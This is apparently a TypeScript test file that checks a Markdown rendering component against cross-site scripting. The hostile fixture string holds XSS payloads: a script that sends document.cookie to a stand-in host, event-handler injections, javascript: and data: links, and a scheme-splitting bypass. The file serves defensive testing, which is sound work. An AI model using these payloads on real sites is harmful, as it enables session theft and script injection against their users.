import { MantineProvider } from '@mantine/core';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownView } from './markdown-view.tsx';

function render(source: string): string {
  return renderToStaticMarkup(
    createElement(MantineProvider, null, createElement(MarkdownView, { source })),
  );
}

/** Every element and attribute of rendered HTML (a tiny tokenizer: React escapes text). */
function tagsOf(html: string): { name: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => ({
    name: (m[1] ?? '').toLowerCase(),
    attributes: new Map(
      [...(m[2] ?? '').matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map((a) => [
        (a[1] ?? '').toLowerCase(),
        a[2] ?? '',
      ]),
    ),
  }));
}

const hostile = [
  '# Title <script>alert(1)</script>',
  '<script>document.location="https://evil.test/?c="+document.cookie</script>',
  '<img src=x onerror=alert(1)> and <a href="javascript:alert(1)" onclick="alert(2)">x</a>',
  '<svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>',
  '[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[tab](java\tscript:alert(1)) [vb](vbscript:msgbox(1)) [ok](https://example.com/policy)',
  '- item with <b onmouseover=alert(1)>bold</b>',
  '**[nested](javascript:alert(1))** `<script>in code</script>`',
  '```\n<script>alert("block")</script>\n```',
].join('\n\n');

describe('MarkdownView renders hostile Markdown safely', () => {
  const html = render(hostile);
  const tags = tagsOf(html);

  it('creates no script, iframe, img, svg or object element', () => {
    const names = new Set(tags.map((t) => t.name));
    for (const dangerous of ['script', 'iframe', 'img', 'svg', 'object', 'embed', 'b']) {
      expect(names.has(dangerous), dangerous).toBe(false);
    }
  });

  it('puts no event handler attribute on any element', () => {
    const handlers = tags.flatMap((t) =>
      [...t.attributes.keys()].filter((k) => k.startsWith('on')),
    );
    expect(handlers).toEqual([]);
  });

  it('links only to http(s) and mailto targets, opened without an opener', () => {
    const anchors = tags.filter((t) => t.name === 'a');
    expect(anchors.map((a) => a.attributes.get('href'))).toEqual(['https://example.com/policy']);
    expect(anchors[0]?.attributes.get('rel')).toContain('noopener');
    const urls = tags.flatMap((t) =>
      ['href', 'src', 'action', 'formaction'].flatMap((k) => t.attributes.get(k) ?? []),
    );
    expect(urls.some((u) => /^\s*(javascript|data|vbscript):/i.test(u))).toBe(false);
  });

  it('shows what was written as escaped text', () => {
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    // Refused links stay visible as text, so the reader sees what was written.
    expect(html).toContain('[click](javascript:alert(1)');
    expect(html).not.toContain('<script');
  });
});
